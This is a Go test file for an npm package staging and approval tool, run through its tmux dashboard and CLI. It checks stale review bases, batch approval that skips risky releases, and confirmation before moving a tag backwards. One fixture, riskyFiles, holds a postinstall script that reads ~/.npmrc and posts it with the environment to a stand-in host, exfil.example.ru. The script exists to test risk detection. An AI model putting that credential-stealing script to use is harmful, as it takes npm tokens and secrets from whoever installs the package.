package conformance

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"
)

// sendDoc PUTs (publish) or POSTs (stage) the document npm sends for a
// package holding files, and returns the stage id for a stage.
func sendDoc(t testing.TB, method, reg, token, name, version, tag string, files map[string]string) string {
	t.Helper()
	tgz, err := PackTGZ(files)
	if err != nil {
		t.Fatal(err)
	}
	doc, err := PublishDocument(reg, name, version, tag, tgz)
	if err != nil {
		t.Fatal(err)
	}
	u := strings.TrimRight(reg, "/") + "/" + EscapeName(name)
	if method == http.MethodPost {
		u = strings.TrimRight(reg, "/") + "/-/stage/package/" + EscapeName(name)
	}
	req, err := http.NewRequestWithContext(context.Background(), method, u, bytes.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("content-type", "application/json")
	req.Header.Set("authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if resp.StatusCode/100 != 2 {
		t.Fatalf("%s %s@%s: %s %s", method, name, version, resp.Status, Redact(string(body), token))
	}
	var out struct {
		StageID string `json:"stageId"`
	}
	_ = json.Unmarshal(body, &out)
	time.Sleep(20 * time.Millisecond) // distinct createdAt, so the queue order is the staging order
	return out.StageID
}

func publishFiles(t testing.TB, reg, token, name, version string, files map[string]string) {
	t.Helper()
	sendDoc(t, http.MethodPut, reg, token, name, version, "latest", files)
}

func stageFiles(t testing.TB, reg, token, name, version, tag string, files map[string]string) string {
	t.Helper()
	return sendDoc(t, http.MethodPost, reg, token, name, version, tag, files)
}

// distTags reads a package's dist-tags and versions over HTTP.
func distTags(t testing.TB, reg, name string) (map[string]string, map[string]any) {
	t.Helper()
	resp, err := http.Get(strings.TrimRight(reg, "/") + "/" + EscapeName(name))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var p struct {
		DistTags map[string]string `json:"dist-tags"`
		Versions map[string]any    `json:"versions"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&p); err != nil {
		t.Fatal(err)
	}
	return p.DistTags, p.Versions
}

// dashboard opens the real binary's dashboard on an empty embedded
// registry in tmux; the world holds the user's config and audit log.
func dashboard(t *testing.T, width, height int, setup func(reg, token string)) (*tmuxSession, *world, StartLine) {
	t.Helper()
	if testing.Short() {
		t.Skip("drives the real binary in tmux")
	}
	needTmux(t)
	sl := startBinaryRegistry(t, "--seed", "none")
	w := newWorld(t, "", sl.URL, sl.Token, sl.TOTPSecret) // no npm needed: the API stages and publishes
	setup(sl.URL, sl.Token)
	env := w.dashboardEnv()
	s := startTmux(t, width, height, env, []string{stagegateBinary(t), "--registry", sl.URL, "--userconfig", w.userrc, "--no-mouse"}, w.secrets)
	return s, w, sl
}

// typeCode types the current TOTP code into the 2FA modal and sends it.
func typeCode(t *testing.T, s *tmuxSession, w *world, sl StartLine) {
	t.Helper()
	otp := code(t, sl.TOTPSecret)
	w.addSecret(otp)
	s.secrets = w.secrets
	s.typeText(otp)
	s.send("Enter")
}

// TestTmuxStaleBase is issue 10 item 1: 1.0.1 and 1.0.2 staged over a live
// 1.0.0; both reviews say "vs 1.0.0". Approving 1.0.1 in the dashboard
// makes 1.0.2's base 1.0.1: its review must say so without a restart.
func TestTmuxStaleBase(t *testing.T) {
	s, w, sl := dashboard(t, 120, 36, func(reg, token string) {
		publishFiles(t, reg, token, "lodashx", "1.0.0", FixturePackage("lodashx", "1.0.0"))
		stageFiles(t, reg, token, "lodashx", "1.0.1", "latest", FixturePackage("lodashx", "1.0.1"))
		stageFiles(t, reg, token, "lodashx", "1.0.2", "latest", FixturePackage("lodashx", "1.0.2"))
	})
	s.waitFor("2 staged versions", 15*time.Second)
	s.send("j", "Enter") // 1.0.2
	s.waitFor("vs 1.0.0", 15*time.Second)
	s.send("Escape")
	s.waitFor("2 staged versions", 5*time.Second)
	s.send("k", "a") // approve 1.0.1
	s.waitFor("2FA code", 15*time.Second)
	typeCode(t, s, w, sl)
	s.waitFor("approved lodashx@1.0.1", 20*time.Second)
	s.waitFor("1 staged version", 15*time.Second)
	s.send("Enter") // 1.0.2 again
	scr := s.waitFor("vs 1.0.1", 15*time.Second)
	if strings.Contains(scr, "vs 1.0.0") {
		t.Errorf("1.0.2's review still compares against 1.0.0:\n%s", Redact(scr, w.secrets...))
	}

	// Outside the dashboard, latest moves to 1.0.2-rc.1 (a plain publish):
	// the queue does not change, but approving 1.0.2 now would publish
	// against another base than the one on screen. Nothing is sent; the
	// user is asked to review again, and the review is recomputed.
	publishFiles(t, sl.URL, sl.Token, "lodashx", "1.0.2-rc.1", FixturePackage("lodashx", "1.0.2-rc.1"))
	s.send("a")
	s.waitFor("2FA code", 10*time.Second)
	s.waitFor("the base changed", 10*time.Second) // said before a code is typed
	typeCode(t, s, w, sl)
	scr = s.waitFor("Approve: 0 approved, 1 failed", 20*time.Second)
	if !strings.Contains(scr, "the base changed") {
		t.Errorf("the refusal does not say why:\n%s", Redact(scr, w.secrets...))
	}
	if _, versions := distTags(t, sl.URL, "lodashx"); versions["1.0.2"] != nil {
		t.Fatal("1.0.2 was published although its review was against another base")
	}
	s.send("Escape") // close the results
	s.waitFor("vs 1.0.2-rc.1", 15*time.Second)
}

// riskyFiles is a release that reads npm credentials at install time and
// sends them away.
func riskyFiles(name, version string) map[string]string {
	return map[string]string{
		"package.json": fmt.Sprintf(`{"name":%q,"version":%q,"main":"index.js","license":"MIT","scripts":{"postinstall":"node setup.js"}}`, name, version),
		"index.js":     fmt.Sprintf("module.exports = %q;\n", name+"@"+version),
		"setup.js": "const fs = require('fs'), os = require('os'), https = require('https');\n" +
			"const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n" +
			"const r = https.request({host: 'exfil.example.ru', path: '/c', method: 'POST'}); r.end(JSON.stringify({t, env: process.env}));\n",
	}
}

// TestTmuxBatchRisk is issue 10 item 4: `*` then `a` over two benign
// releases and one credential stealer lists each version's risk, leaves the
// stealer out, and publishes only the other two with one code.
func TestTmuxBatchRisk(t *testing.T) {
	s, w, sl := dashboard(t, 140, 50, func(reg, token string) {
		for _, n := range []string{"benign-a", "benign-b", "stealer"} {
			publishFiles(t, reg, token, n, "1.0.0", FixturePackage(n, "1.0.0"))
		}
		stageFiles(t, reg, token, "benign-a", "1.0.1", "latest", FixturePackage("benign-a", "1.0.1"))
		stageFiles(t, reg, token, "benign-b", "1.0.1", "latest", FixturePackage("benign-b", "1.0.1"))
		stageFiles(t, reg, token, "stealer", "1.0.1", "latest", riskyFiles("stealer", "1.0.1"))
	})
	s.waitFor("3 staged versions", 15*time.Second)
	s.send("*")
	s.waitFor("3 selected", 5*time.Second)
	// Approving waits for every review; press a until the modal opens.
	deadline := time.Now().Add(20 * time.Second)
	for !strings.Contains(s.screen(), "with one code") && time.Now().Before(deadline) {
		s.send("a")
		time.Sleep(500 * time.Millisecond)
	}
	scr := s.waitFor("Publish 2 of 3 versions with one code", 5*time.Second)
	for _, want := range []string{"risk high", "stealer@1.0.1", "left out", "✓ verified", "moves latest from 1.0.0 to 1.0.1"} {
		if !strings.Contains(scr, want) {
			t.Errorf("batch modal lacks %q:\n%s", want, scr)
		}
	}
	// i includes the high-risk version explicitly, and i again leaves it out.
	s.send("i")
	s.waitFor("Publish 3 of 3 versions with one code", 5*time.Second)
	s.waitFor("1 high-risk version(s) INCLUDED", 5*time.Second)
	s.send("i")
	s.waitFor("Publish 2 of 3 versions with one code", 5*time.Second)
	typeCode(t, s, w, sl)
	scr = s.waitFor("Approve: 2 approved, 1 skipped", 20*time.Second)
	if !strings.Contains(scr, "stealer@1.0.1: high risk: left out of the batch") {
		t.Errorf("results do not say why the stealer was skipped:\n%s", Redact(scr, w.secrets...))
	}
	for n, want := range map[string]string{"benign-a": "1.0.1", "benign-b": "1.0.1", "stealer": "1.0.0"} {
		if tags, _ := distTags(t, sl.URL, n); tags["latest"] != want {
			t.Errorf("%s latest = %s, want %s", n, tags["latest"], want)
		}
	}
	// Approved alone, the stealer's modal names its high-severity signals.
	s.send("Escape")
	s.waitFor("1 staged version", 15*time.Second)
	s.send("a")
	scr = s.waitFor("2FA code", 10*time.Second)
	if !strings.Contains(scr, "high-severity signals") {
		t.Errorf("the single approve modal does not show the risk:\n%s", scr)
	}
	s.send("Escape")
}

// TestTmuxTagBackwards is issue 10 items 5 and 6: with latest at 1.0.4,
// approving a staged 1.0.1 under latest says "moves latest back from 1.0.4
// to 1.0.1" and asks first; the modal shows the stage's age and that you
// staged it yourself.
func TestTmuxTagBackwards(t *testing.T) {
	s, w, sl := dashboard(t, 120, 36, func(reg, token string) {
		for _, v := range []string{"1.0.0", "1.0.4"} {
			publishFiles(t, reg, token, "padx", v, FixturePackage("padx", v))
		}
		stageFiles(t, reg, token, "padx", "1.0.1", "latest", FixturePackage("padx", "1.0.1"))
	})
	s.waitFor("1 staged version", 15*time.Second)
	deadline := time.Now().Add(20 * time.Second)
	for !strings.Contains(s.screen(), "Approve with 2FA") && time.Now().Before(deadline) {
		s.send("a")
		time.Sleep(500 * time.Millisecond)
	}
	scr := s.waitFor("moves latest back from 1.0.4 to 1.0.1", 5*time.Second)
	for _, want := range []string{"y yes, move the tag back", "staged this version yourself"} {
		if !strings.Contains(scr, want) {
			t.Errorf("modal lacks %q:\n%s", want, scr)
		}
	}
	if !regexp.MustCompile(`staged (\d+s ago|just now) by maintainer`).MatchString(scr) {
		t.Errorf("modal does not show the stage's age:\n%s", scr)
	}
	if strings.Contains(scr, "2FA code:") {
		t.Errorf("the code is asked before the tag move is confirmed:\n%s", scr)
	}
	s.send("n")
	s.waitFor("approve cancelled; nothing was sent", 5*time.Second)
	s.send("a")
	s.waitFor("moves latest back", 5*time.Second)
	s.send("y")
	s.waitFor("2FA code:", 5*time.Second)
	typeCode(t, s, w, sl)
	s.waitFor("approved padx@1.0.1", 20*time.Second)
	tags, versions := distTags(t, sl.URL, "padx")
	if tags["latest"] != "1.0.1" || versions["1.0.1"] == nil {
		t.Fatalf("after a confirmed approval: latest=%s versions=%d", tags["latest"], len(versions))
	}
}

// TestTmuxCLITagBackwards is issue 10 item 5 for the CLI on a terminal:
// `approve` says "moves latest back from 1.0.4 to 1.0.1" and asks before
// the 2FA code; "n" sends nothing, "y" goes on to the code and publishes.
func TestTmuxCLITagBackwards(t *testing.T) {
	if testing.Short() {
		t.Skip("drives the real binary in tmux")
	}
	needTmux(t)
	sl := startBinaryRegistry(t, "--seed", "none")
	w := newWorld(t, "", sl.URL, sl.Token, sl.TOTPSecret)
	for _, v := range []string{"1.0.0", "1.0.4"} {
		publishFiles(t, sl.URL, sl.Token, "padx", v, FixturePackage("padx", v))
	}
	id := stageFiles(t, sl.URL, sl.Token, "padx", "1.0.1", "latest", FixturePackage("padx", "1.0.1"))
	env := w.dashboardEnv()
	run := func() *tmuxSession {
		cmd := fmt.Sprintf("%s --registry %s --userconfig %s approve %s; echo EXIT=$?; sleep 60", stagegateBinary(t), sl.URL, w.userrc, id)
		return startTmux(t, 160, 20, env, []string{"sh", "-c", cmd}, w.secrets)
	}
	s := run()
	scr := s.waitFor("[y/N]", 15*time.Second)
	if !strings.Contains(scr, "moves latest back from 1.0.4 to 1.0.1") {
		t.Fatalf("the prompt does not name the move:\n%s", scr)
	}
	s.typeText("n")
	s.send("Enter")
	scr = s.waitFor("EXIT=", 10*time.Second)
	if !strings.Contains(scr, "EXIT=1") || !strings.Contains(scr, "not confirmed") || strings.Contains(scr, "Enter OTP") {
		t.Fatalf("declined move:\n%s", scr)
	}
	if tags, _ := distTags(t, sl.URL, "padx"); tags["latest"] != "1.0.4" {
		t.Fatalf("declined, yet latest = %s", tags["latest"])
	}
	s = run()
	s.waitFor("[y/N]", 15*time.Second)
	s.typeText("y")
	s.send("Enter")
	s.waitFor("Enter OTP", 10*time.Second)
	otp := code(t, sl.TOTPSecret)
	w.addSecret(otp)
	s.secrets = w.secrets
	s.typeText(otp)
	s.send("Enter")
	scr = s.waitFor("EXIT=", 20*time.Second)
	if !strings.Contains(scr, "padx@1.0.1 approved") || !strings.Contains(scr, "EXIT=0") || strings.Contains(scr, otp) {
		t.Fatalf("confirmed move:\n%s", Redact(scr, w.secrets...))
	}
	if tags, _ := distTags(t, sl.URL, "padx"); tags["latest"] != "1.0.1" {
		t.Fatalf("confirmed, yet latest = %s", tags["latest"])
	}
}
